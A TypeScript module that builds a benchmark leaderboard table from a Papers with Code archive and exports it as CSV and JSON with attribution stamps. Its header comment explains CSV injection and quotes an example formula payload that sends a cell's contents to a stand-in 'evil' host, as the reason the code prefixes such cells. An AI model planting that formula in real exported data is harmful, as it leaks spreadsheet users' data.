/**
 * The leaderboard table (which results it shows, ranked and sorted how, what each cell says) and
 * the files it is exported to (CSV, JSON), each stamped with where the data came from. The page's
 * table is built by the same functions, so an export holds exactly the rows, in the order, that
 * the user was looking at.
 *
 * The data is CC-BY-SA 4.0: the licence requires credit and a link to the source, so every file
 * carries the attribution, the leaderboard it came from and the archive snapshot it reflects.
 *
 * CSV injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (some also tab
 * or carriage return) as a formula, and model names and paper titles are archive text that anyone
 * could once submit (`=HYPERLINK("http://evil/?"&A1)`). Such text cells get a leading `'` (OWASP's
 * advice). A metric cell that is a plain signed number (`-1.1`) stays as it is: it cannot run,
 * and prefixing it would turn a number column into text.
 */
import type { MetricValue, ResultRecord } from '../archive/entities'
import { isBetterValue } from './frontier'
import type { MetricDirection } from './metricDirection'
import { findRepeatedResults, withoutRepeats } from './repeatedResults'
import { safeCsvCell } from '../csv'

export const ARCHIVE_ATTRIBUTION = 'Papers with Code, paperswithcode.com, CC-BY-SA 4.0'
export const ARCHIVE_LICENSE_URL = 'https://creativecommons.org/licenses/by-sa/4.0/'

/** Where an exported file's data came from. */
export interface LeaderboardExportStamp {
  leaderboardId: string
  /** `Papers with Code archive, leaderboard <slug>`. */
  source: string
  /**
   * The date of the evaluation-tables file the rows came from (`kindSnapshotDate`), not the
   * archive's latest date: `null` when no sync recorded one.
   */
  snapshotDate: string | null
  attribution: string
}

export function leaderboardExportStamp(
  leaderboardId: string,
  snapshotDate: string | null
): LeaderboardExportStamp {
  return {
    leaderboardId,
    source: `Papers with Code archive, leaderboard ${leaderboardId}`,
    snapshotDate,
    attribution: ARCHIVE_ATTRIBUTION
  }
}

/** The stamp as lines of text: CSV comments and the footer drawn under an exported chart. */
export function exportStampLines(stamp: LeaderboardExportStamp): string[] {
  return [
    `Source: ${stamp.source}`,
    `Archive snapshot: ${stamp.snapshotDate ?? 'unknown'}`,
    `Data: ${stamp.attribution} (${ARCHIVE_LICENSE_URL})`
  ]
}

export interface LeaderboardCodeLink {
  url: string
  /** A code link of the same paper, with the same repository URL, is marked official. */
  official: boolean
}

/** One result as the leaderboard table shows it. */
export interface LeaderboardTableRow {
  resultId: string
  /** Competition rank on the chosen metric among the rows shown; `null` without a numeric value. */
  rank: number | null
  modelName: string
  metrics: Record<string, MetricValue>
  paperTitle: string | null
  paperId: string | null
  paperUrl: string | null
  code: LeaderboardCodeLink[]
  date: string | null
  usesAdditionalData: boolean | null
  /**
   * The id of the shown result this row repeats (`findRepeatedResults`), else `null`. A repeat
   * shares its original's rank and takes none of its own.
   */
  repeatOf: string | null
}

export interface LeaderboardTable {
  /** Metric columns, in the leaderboard's display order. */
  metrics: readonly string[]
  /** Rows in display order. */
  rows: readonly LeaderboardTableRow[]
}

export type LeaderboardColumn =
  | { kind: 'rank' }
  | { kind: 'model' }
  | { kind: 'metric'; metric: string }
  | { kind: 'paper' }
  | { kind: 'code' }
  | { kind: 'date' }
  | { kind: 'extra-data' }
  // Files only: the page shows these as links rather than as columns.
  | { kind: 'paper-url' }
  | { kind: 'official-code' }

// --- Which rows, in what order -------------------------------------------------------------

export interface LeaderboardFilters {
  onlyWithCode: boolean
  noExtraData: boolean
  /** Inclusive year bounds; `null` leaves that end open. */
  fromYear: number | null
  toYear: number | null
}

export const NO_FILTERS: LeaderboardFilters = {
  onlyWithCode: false,
  noExtraData: false,
  fromYear: null,
  toYear: null
}

function yearOf(date: string | null): number | null {
  const year = date === null ? NaN : Number(date.slice(0, 4))
  return Number.isInteger(year) ? year : null
}

/** The first and last year any result is dated, `null` when none is. */
export function yearSpan(results: readonly Pick<ResultRecord, 'paperDate'>[]): [number, number] | null {
  let min = Infinity
  let max = -Infinity
  for (const result of results) {
    const year = yearOf(result.paperDate)
    if (year === null) continue
    min = Math.min(min, year)
    max = Math.max(max, year)
  }
  return min <= max ? [min, max] : null
}

/**
 * The results the filters keep. A result the archive says nothing about (no extra-data flag: the
 * whole 2020 dump) is kept by "no extra training data": only a stated `true` is excluded. A year
 * bound drops undated results, since nothing says they fall inside it.
 */
export function filterResults<R extends Pick<ResultRecord, 'codeLinks' | 'usesAdditionalData' | 'paperDate'>>(
  results: readonly R[],
  filters: LeaderboardFilters
): R[] {
  return results.filter((result) => {
    if (filters.onlyWithCode && result.codeLinks.length === 0) return false
    if (filters.noExtraData && result.usesAdditionalData === true) return false
    if (filters.fromYear !== null || filters.toYear !== null) {
      const year = yearOf(result.paperDate)
      if (year === null) return false
      if (filters.fromYear !== null && year < filters.fromYear) return false
      if (filters.toYear !== null && year > filters.toYear) return false
    }
    return true
  })
}

/** The filters in words, for export notes; empty when none applies. */
export function describeFilters(filters: LeaderboardFilters): string[] {
  const words: string[] = []
  if (filters.onlyWithCode) words.push('only results with code')
  if (filters.noExtraData) words.push('no extra training data')
  if (filters.fromYear !== null) words.push(`from ${filters.fromYear}`)
  if (filters.toYear !== null) words.push(`to ${filters.toYear}`)
  return words
}

/** How a repository URL is compared: case, a trailing slash and `.git` do not make another repo. */
export function repoUrlKey(url: string): string {
  return url
    .trim()
    .toLowerCase()
    .replace(/^http:\/\//, 'https://')
    .replace(/(\.git)?\/*$/, '')
}

export function officialCodeKey(paperId: string, repoUrl: string): string {
  return `${paperId}|${repoUrlKey(repoUrl)}`
}

/** Official code first, as the old site listed it; otherwise the dump's order. */
function officialFirst(links: LeaderboardCodeLink[]): LeaderboardCodeLink[] {
  return [...links.filter((link) => link.official), ...links.filter((link) => !link.official)]
}

export type TableSort =
  { kind: 'metric'; metric: string; reversed: boolean } | { kind: 'date'; reversed: boolean }

function metricValue(result: Pick<ResultRecord, 'metrics'>, metric: string): number | null {
  const value = Object.hasOwn(result.metrics, metric) ? result.metrics[metric]?.value : null
  return value !== null && value !== undefined && Number.isFinite(value) ? value : null
}

/** Competition ranks ("1224") on `metric`, by result id; results without a value have none. */
export function competitionRanks(
  results: readonly Pick<ResultRecord, 'id' | 'metrics'>[],
  metric: string,
  direction: MetricDirection
): Map<string, number> {
  const values = results
    .map((result) => metricValue(result, metric))
    .filter((value): value is number => value !== null)
    .sort((a, b) => (a === b ? 0 : isBetterValue(a, b, direction) ? -1 : 1))
  const ranks = new Map<string, number>()
  for (const result of results) {
    const value = metricValue(result, metric)
    if (value === null) continue
    // Values are sorted best first, so the first index holding an equal value counts the better ones.
    let low = 0
    let high = values.length
    while (low < high) {
      const mid = (low + high) >> 1
      if (isBetterValue(values[mid], value, direction)) low = mid + 1
      else high = mid
    }
    ranks.set(result.id, low + 1)
  }
  return ranks
}

export interface TableRowOptions {
  /** The metric ranks refer to (the chart's metric). */
  rankMetric: string | null
  directionOf: (metric: string) => MetricDirection
  sort: TableSort
  /** `officialCodeKey(paperId, url)` of every official code link of the board's papers. */
  officialCode: ReadonlySet<string>
}

/** Missing values last; otherwise `better` first. */
function compareWith<T>(a: T | null, b: T | null, better: (x: T, y: T) => boolean): number {
  if (a === null || b === null) return a === null ? (b === null ? 0 : 1) : -1
  if (a === b) return 0
  return better(a, b) ? -1 : 1
}

/**
 * The table's rows in display order. Sorting by a metric puts its best value first (whichever
 * way is better for it); rows without a value always come last; ties keep the board's own order.
 */
export function leaderboardTableRows(
  results: readonly ResultRecord[],
  options: TableRowOptions
): LeaderboardTableRow[] {
  const repeats = findRepeatedResults(results)
  const ranks =
    options.rankMetric === null
      ? new Map<string, number>()
      : competitionRanks(
          withoutRepeats(results, repeats),
          options.rankMetric,
          options.directionOf(options.rankMetric)
        )
  const rows = results.map((result) => ({
    result,
    row: {
      resultId: result.id,
      rank: ranks.get(repeats.get(result.id) ?? result.id) ?? null,
      modelName: result.modelName,
      metrics: result.metrics,
      paperTitle: result.paperTitle,
      paperId: result.paperId,
      paperUrl: result.paperUrl,
      code: officialFirst(
        result.codeLinks.map((url): LeaderboardCodeLink => ({
          url,
          official: result.paperId !== null && options.officialCode.has(officialCodeKey(result.paperId, url))
        }))
      ),
      date: result.paperDate,
      usesAdditionalData: result.usesAdditionalData,
      repeatOf: repeats.get(result.id) ?? null
    } satisfies LeaderboardTableRow
  }))
  const { sort } = options
  const order = sort.reversed ? -1 : 1
  let byKey: (a: ResultRecord, b: ResultRecord) => number
  if (sort.kind === 'metric') {
    const direction = options.directionOf(sort.metric)
    const better = (x: number, y: number): boolean => isBetterValue(x, y, direction)
    byKey = (a, b) => {
      const av = metricValue(a, sort.metric)
      const bv = metricValue(b, sort.metric)
      // Missing values stay last in either order.
      return av === null || bv === null ? compareWith(av, bv, better) : order * compareWith(av, bv, better)
    }
  } else {
    const newer = (x: string, y: string): boolean => x > y
    byKey = (a, b) =>
      a.paperDate === null || b.paperDate === null
        ? compareWith(a.paperDate, b.paperDate, newer)
        : order * compareWith(a.paperDate, b.paperDate, newer)
  }
  rows.sort((a, b) => byKey(a.result, b.result) || a.result.position - b.result.position)
  return rows.map(({ row }) => row)
}

// --- What each cell says --------------------------------------------------------------------

/** Joins several values in one cell (the reading-list CSV uses the same separator). */
export const MULTI_VALUE_SEPARATOR = '; '

/** The table's columns, in order; `forFile` adds the ones the page shows as links only. */
export function leaderboardColumns(metrics: readonly string[], forFile = false): LeaderboardColumn[] {
  const columns: LeaderboardColumn[] = [
    { kind: 'rank' },
    { kind: 'model' },
    ...metrics.map((metric) => ({ kind: 'metric' as const, metric })),
    { kind: 'paper' },
    { kind: 'code' },
    { kind: 'date' },
    { kind: 'extra-data' }
  ]
  if (forFile) columns.push({ kind: 'paper-url' }, { kind: 'official-code' })
  return columns
}

const HEADERS: Record<Exclude<LeaderboardColumn['kind'], 'metric'>, string> = {
  rank: 'Rank',
  model: 'Model',
  paper: 'Paper',
  code: 'Code',
  date: 'Date',
  'extra-data': 'Extra training data',
  'paper-url': 'Paper URL',
  'official-code': 'Official code'
}

export function columnHeader(column: LeaderboardColumn): string {
  return column.kind === 'metric' ? column.metric : HEADERS[column.kind]
}

/** `true` → `Yes`, `false` → `No`; the 2020 dump never states it, and unknown stays empty. */
export function extraDataText(value: boolean | null): string {
  return value === null ? '' : value ? 'Yes' : 'No'
}

/** The raw metric string as the dump has it (`"88.5%"`), empty when the row lacks the column. */
export function metricText(row: Pick<LeaderboardTableRow, 'metrics'>, metric: string): string {
  // `Object.hasOwn`: a metric column named "constructor" must not read the prototype.
  return Object.hasOwn(row.metrics, metric) ? (row.metrics[metric]?.raw ?? '') : ''
}

/** A cell's text, shared by the page's table and the exported files. */
export function cellText(row: LeaderboardTableRow, column: LeaderboardColumn): string {
  switch (column.kind) {
    case 'rank':
      return row.rank === null ? '' : String(row.rank)
    case 'model':
      return row.modelName
    case 'metric':
      return metricText(row, column.metric)
    case 'paper':
      return row.paperTitle ?? row.paperId ?? ''
    case 'code':
      return row.code.map((link) => link.url).join(MULTI_VALUE_SEPARATOR)
    case 'date':
      return row.date ?? ''
    case 'extra-data':
      return extraDataText(row.usesAdditionalData)
    case 'paper-url':
      return row.paperUrl ?? ''
    case 'official-code':
      return row.code
        .filter((link) => link.official)
        .map((link) => link.url)
        .join(MULTI_VALUE_SEPARATOR)
  }
}

// --- Files ---------------------------------------------------------------------------------

// The field rules are shared by every export; re-exported where the leaderboard tests use them.
export { csvField, neutralizeFormula } from '../csv'

function isNumericColumn(column: LeaderboardColumn): boolean {
  return column.kind === 'rank' || column.kind === 'metric'
}

// A comment is one line: a line break in a note would start an unmarked data row.
function commentLine(text: string): string {
  return `# ${text.replace(/[\r\n]+/g, ' ')}`
}

export interface LeaderboardCsvOptions {
  /** Extra `# ` lines after the stamp: the metric, its direction, the filters applied. */
  notes?: readonly string[]
  /**
   * Start with a UTF-8 byte order mark. Excel reads a CSV without one in the legacy code page and
   * turns "José" into "JosÃ©"; most other tools skip the mark. Default `true`.
   */
  byteOrderMark?: boolean
}

/**
 * The table as CSV: `# ` comment lines (stamp, then notes), a header row, one record per row, in
 * display order. Records end with CRLF, as RFC 4180 has them.
 */
export function leaderboardCsv(
  table: LeaderboardTable,
  stamp: LeaderboardExportStamp,
  options: LeaderboardCsvOptions = {}
): string {
  const columns = leaderboardColumns(table.metrics, true)
  const lines = [...exportStampLines(stamp), ...(options.notes ?? [])].map(commentLine)
  lines.push(columns.map((column) => safeCsvCell(columnHeader(column))).join(','))
  for (const row of table.rows) {
    lines.push(columns.map((column) => safeCsvCell(cellText(row, column), isNumericColumn(column))).join(','))
  }
  const bom = options.byteOrderMark === false ? '' : '\uFEFF'
  return bom + lines.map((line) => `${line}\r\n`).join('')
}

export interface LeaderboardJsonMeta {
  source: string
  leaderboard: string
  snapshotDate: string | null
  attribution: string
  license: string
  /** Human title, e.g. `Image Classification on ImageNet`. */
  title?: string
  /** The metric ranks refer to, and which way it is better. */
  metric?: string
  direction?: MetricDirection
  /** Filters applied to the rows, in words; empty when every result is included. */
  filters?: string[]
  /** ISO timestamp of the export. */
  exportedAt?: string
}

export interface LeaderboardJsonRow {
  rank: number | null
  model: string
  metrics: Record<string, MetricValue>
  paper: { id: string | null; title: string | null; url: string | null } | null
  code: LeaderboardCodeLink[]
  date: string | null
  usesAdditionalData: boolean | null
}

export interface LeaderboardJson {
  meta: LeaderboardJsonMeta
  metrics: string[]
  rows: LeaderboardJsonRow[]
}

/** The table as a JSON document: a `meta` object with the stamp, then the rows in display order. */
export function leaderboardJsonDocument(
  table: LeaderboardTable,
  stamp: LeaderboardExportStamp,
  extra: Omit<LeaderboardJsonMeta, 'source' | 'leaderboard' | 'snapshotDate' | 'attribution' | 'license'> = {}
): LeaderboardJson {
  return {
    meta: {
      source: stamp.source,
      leaderboard: stamp.leaderboardId,
      snapshotDate: stamp.snapshotDate,
      attribution: stamp.attribution,
      license: ARCHIVE_LICENSE_URL,
      ...extra
    },
    metrics: [...table.metrics],
    rows: table.rows.map((row) => ({
      rank: row.rank,
      model: row.modelName,
      // Only the board's own columns, in its order: a row never carries another board's metric.
      metrics: Object.fromEntries(
        table.metrics.filter((m) => Object.hasOwn(row.metrics, m)).map((m) => [m, row.metrics[m]])
      ),
      paper:
        row.paperId === null && row.paperTitle === null && row.paperUrl === null
          ? null
          : { id: row.paperId, title: row.paperTitle, url: row.paperUrl },
      code: row.code.map((link) => ({ ...link })),
      date: row.date,
      usesAdditionalData: row.usesAdditionalData
    }))
  }
}

export function leaderboardJson(
  table: LeaderboardTable,
  stamp: LeaderboardExportStamp,
  extra?: Omit<LeaderboardJsonMeta, 'source' | 'leaderboard' | 'snapshotDate' | 'attribution' | 'license'>
): string {
  return `${JSON.stringify(leaderboardJsonDocument(table, stamp, extra), null, 2)}\n`
}

/**
 * A file name for an export: the leaderboard slug, then the metric, both reduced to characters
 * every file system accepts (`Top 1 Accuracy` → `top-1-accuracy`).
 */
export function exportFileName(leaderboardId: string, extension: string, metric?: string | null): string {
  const part = (text: string): string =>
    text
      .toLowerCase()
      .replace(/[^a-z0-9]+/g, '-')
      .replace(/^-+|-+$/g, '')
      .slice(0, 80)
  const parts = [part(leaderboardId) || 'leaderboard']
  if (metric) {
    const metricPart = part(metric)
    if (metricPart) parts.push(metricPart)
  }
  return `${parts.join('_')}.${extension}`
}
